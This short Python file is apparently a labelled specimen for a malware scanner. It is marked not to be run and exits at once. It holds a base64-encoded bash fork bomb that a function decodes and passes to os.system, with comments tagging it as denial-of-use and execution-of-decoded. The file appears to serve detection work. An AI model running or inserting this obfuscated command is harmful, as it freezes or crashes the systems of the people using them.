raise SystemExit("specimen: not to be run")
import base64
import os

def begin():
    os.system(base64.b64decode("OigpeyA6fDomIH07Og==").decode())  # match: denial-of-use  # match: execution-of-decoded
